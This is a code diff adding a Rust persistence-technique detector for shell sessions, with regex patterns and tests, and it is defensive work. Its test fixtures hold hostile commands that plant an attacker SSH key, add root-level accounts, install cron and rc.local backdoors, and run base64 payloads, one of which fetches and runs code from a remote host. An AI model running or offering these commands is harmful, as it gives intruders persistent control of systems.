@@ -0,0 +1,232 @@
+//! Persistence-technique detection
+//!
+//! An attacker who plants an SSH key, a cron job or a service intends to come
+//! back after the session ends, which is worth knowing regardless of what else
+//! the session did. Commands are matched after shell quote removal, so
+//! `author''ized_keys` or `cron\tab` don't slip past, and base64 payloads
+//! decoded in the same command are checked too.
+
+use regex::Regex;
+
+use crate::utils::helpers::decode_base64;
+
+/// Redirects and commands that write to the path that follows them
+const WRITE: &str = r"(?:>|\btee\b|\bcp\b|\bmv\b|\binstall\b|\bln\b|\bsed\s+(?:-\S+\s+)*-i)[^;&|]*";
+
+/// Shortest base64 literal worth decoding
+const MIN_BASE64_LEN: usize = 12;
+
+/// A persistence technique and how it shows on sessions
+///
+/// ATT&CK IDs for the tags are in the mapping table (`data/attack.toml`).
+#[derive(Debug)]
+pub struct PersistenceTechnique {
+    /// Session tag, shown as a chip
+    pub tag: &'static str,
+    /// Name of the risk factor
+    pub name: &'static str,
+    /// Risk points a command using it adds
+    pub risk: u32,
+}
+
+/// Built-in techniques, in the order the patterns below follow
+pub const PERSISTENCE_TECHNIQUES: &[PersistenceTechnique] = &[
+    PersistenceTechnique { tag: "persist-ssh-key", name: "SSH authorized_keys", risk: 30 },
+    PersistenceTechnique { tag: "persist-cron", name: "Cron job", risk: 25 },
+    PersistenceTechnique { tag: "persist-systemd", name: "Systemd service", risk: 25 },
+    PersistenceTechnique { tag: "persist-rc-local", name: "rc.local", risk: 25 },
+    PersistenceTechnique { tag: "persist-account", name: "Local account", risk: 25 },
+];
+
+/// Technique a session tag stands for
+pub fn persistence_technique(tag: &str) -> Option<&'static PersistenceTechnique> {
+    PERSISTENCE_TECHNIQUES.iter().find(|technique| technique.tag == tag)
+}
+
+/// Compiled patterns for [`PERSISTENCE_TECHNIQUES`]
+#[derive(Debug, Clone)]
+pub struct PersistenceDetector {
+    /// One pattern per technique, same order
+    patterns: Vec<Regex>,
+    /// Candidate base64 literals
+    base64: Regex,
+}
+
+impl PersistenceDetector {
+    /// Compile the built-in patterns
+    pub fn new() -> Self {
+        let patterns = [
+            format!(r"(?i){}authorized_keys|\bssh-copy-id\b", WRITE),
+            format!(
+                r"(?i)\bcrontab\s+(?:-u\s+\S+\s+)?(?:-e\b|-(?:\s|$)|[^-\s;&|])|\|\s*crontab\s*(?:$|[;&|)])|{}(?:/etc/cron|/var/spool/cron)",
+                WRITE
+            ),
+            format!(
+                r"(?i){}(?:/etc/systemd/|/lib/systemd/|\.config/systemd/)|\bsystemctl\s+(?:--\S+\s+)*enable\b",
+                WRITE
+            ),
+            format!(r"(?i){}/etc/rc\.local", WRITE),
+            r"(?i)\b(?:useradd|adduser)\b|>>[^;&|]*/etc/(?:passwd|shadow)\b".to_string(),
+        ];
+
+        Self {
+            patterns: patterns.iter().map(|pattern| Regex::new(pattern).unwrap()).collect(),
+            base64: Regex::new(&format!(r"[A-Za-z0-9+/]{{{},}}={{0,2}}", MIN_BASE64_LEN)).unwrap(),
+        }
+    }
+
+    /// Techniques used by `command`, in table order
+    pub fn detect(&self, command: &str) -> Vec<&'static PersistenceTechnique> {
+        let mut texts = vec![unquote(command)];
+        if command.contains("base64") {
+            texts.extend(
+                self.base64.find_iter(command)
+                    .filter_map(|literal| decode_base64(literal.as_str()))
+                    .filter_map(|bytes| String::from_utf8(bytes).ok())
+                    .map(|decoded| unquote(&decoded)),
+            );
+        }
+
+        PERSISTENCE_TECHNIQUES.iter()
+            .zip(&self.patterns)
+            .filter(|(_, pattern)| texts.iter().any(|text| pattern.is_match(text)))
+            .map(|(technique, _)| technique)
+            .collect()
+    }
+}
+
+impl Default for PersistenceDetector {
+    fn default() -> Self {
+        Self::new()
+    }
+}
+
+/// Drop shell quotes and backslashes and collapse whitespace, as the shell would see the words
+///
+/// `;`, `&` and `|` inside quotes are words, not command breaks, so they become spaces.
+fn unquote(command: &str) -> String {
+    let mut quote = None;
+    let unquoted: String = command.chars()
+        .filter_map(|c| match (c, quote) {
+            ('\'' | '"', None) => {
+                quote = Some(c);
+                None
+            }
+            (_, Some(open)) if c == open => {
+                quote = None;
+                None
+            }
+            ('\\', _) => None,
+            (';' | '&' | '|', Some(_)) => Some(' '),
+            _ => Some(c),
+        })
+        .collect();
+    unquoted.split_whitespace().collect::<Vec<_>>().join(" ")
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::data::attack::attack_mapping;
+    use pretty_assertions::assert_eq;
+
+    /// Tags of the techniques `command` uses
+    fn tags(command: &str) -> Vec<&'static str> {
+        PersistenceDetector::new().detect(command).iter().map(|technique| technique.tag).collect()
+    }
+
+    fn assert_detected(tag: &str, commands: &[&str]) {
+        for command in commands {
+            assert_eq!(tags(command), [tag], "{}", command);
+        }
+    }
+
+    #[test]
+    fn ssh_keys_are_found_however_they_are_written() {
+        assert_detected("persist-ssh-key", &[
+            r#"echo "ssh-rsa AAAAB3NzaC1yc2E mdrfckr" >> ~/.ssh/authorized_keys"#,
+            "echo ssh-rsa AAAAB3NzaC1yc2E>>.ssh/authorized_keys",
+            "echo 'ssh-rsa AAAA' >     \"/root/.ssh/authorized_keys\"",
+            "cat /tmp/k.pub | tee -a /root/.ssh/author''ized_keys",
+            r"cp /tmp/k /root/.ssh/author\ized_keys2",
+            "ssh-copy-id -i k.pub root@10.0.0.5",
+            "cd ~ && rm -rf .ssh && mkdir .ssh && echo \"ssh-rsa AAAA mdrfckr\">>.ssh/authorized_keys && chmod -R go= ~/.ssh",
+        ]);
+    }
+
+    #[test]
+    fn cron_jobs_are_found_however_they_are_written() {
+        assert_detected("persist-cron", &[
+            "crontab -e",
+            "crontab  -u  root  -e",
+            "crontab /tmp/.cron",
+            r#"(crontab -l; echo "* * * * * /tmp/.x") | crontab -"#,
+            "echo '* * * * * root /tmp/.x'>>/etc/crontab",
+            "echo \"@reboot /tmp/.x\" > /etc/cron.d/sysupdate",
+            "cr''ontab -e",
+            "echo KiAqICogKiAqIHdnZXQgLXEgaHR0cDovLzE5OC41MS4xMDAuOS94IC1PLSB8IHNo | base64 -d | crontab -",
+            // Only the decoded payload writes the cron file
+            "echo ZWNobyAnKiAqICogKiAqIHJvb3QgL3RtcC8ueCcgPiAvZXRjL2Nyb24uZC94 | base64 -d | sh",
+        ]);
+    }
+
+    #[test]
+    fn services_rc_local_and_accounts_are_found() {
+        assert_detected("persist-systemd", &[
+            "cat > /etc/systemd/system/dbus-update.service",
+            "cp x.service ~/.config/systemd/user/",
+            "systemctl --now enable dbus-update",
+            "systemctl\tenable\tx",
+        ]);
+        assert_detected("persist-rc-local", &[
+            "echo \"/tmp/.x &\" >> /etc/rc.local",
+            "sed -i '$i /tmp/.x &' /etc/rc.local",
+        ]);
+        assert_detected("persist-account", &[
+            "useradd -m -s /bin/bash -G sudo support",
+            "/usr/sbin/adduser --disabled-password x",
+            "echo 'x:$1$abc:0:0::/root:/bin/sh' >> /etc/passwd",
+        ]);
+    }
+
+    #[test]
+    fn base64_payloads_are_decoded() {
+        let command = "echo ZWNobyBzc2gtcnNhIEFBQUFCM056YUMxeWMyRSBtZHJmY2tyID4+IC9yb290Ly5zc2gvYXV0aG9yaXplZF9rZXlz | base64 --decode | bash";
+        assert_eq!(tags(command), ["persist-ssh-key"]);
+        // Without base64 in the command the literal is left alone
+        assert!(tags("echo ZWNobyBzc2gtcnNhIEFBQUFCM056YUMxeWMyRSBtZHJmY2tyID4+IC9yb290Ly5zc2gvYXV0aG9yaXplZF9rZXlz").is_empty());
+    }
+
+    #[test]
+    fn looking_is_not_persisting() {
+        for command in [
+            "cat ~/.ssh/authorized_keys",
+            "ls -la .ssh",
+            "crontab -l",
+            "echo crontab",
+            "ls /etc/cron.d",
+            "systemctl status sshd",
+            "cat /etc/rc.local",
+            "cat /etc/passwd",
+            "grep -c useradder /var/log/x",
+        ] {
+            assert!(tags(command).is_empty(), "{}", command);
+        }
+    }
+
+    #[test]
+    fn one_command_can_use_several_techniques() {
+        let command = "useradd -o -u 0 x; echo k >> /home/x/.ssh/authorized_keys; echo '@reboot /tmp/.x' | crontab -";
+        assert_eq!(tags(command), ["persist-ssh-key", "persist-cron", "persist-account"]);
+    }
+
+    #[test]
+    fn every_technique_maps_to_attack() {
+        let mapping = attack_mapping();
+        let ids: Vec<Vec<String>> = PERSISTENCE_TECHNIQUES.iter().map(|technique| mapping.ids_for([technique.tag])).collect();
+
+        assert_eq!(ids, [["T1098.004"], ["T1053.003"], ["T1543.002"], ["T1037.004"], ["T1136.001"]]);
+        assert_eq!(persistence_technique("persist-cron").map(|technique| technique.name), Some("Cron job"));
+        assert!(persistence_technique("scanner").is_none());
+    }
+}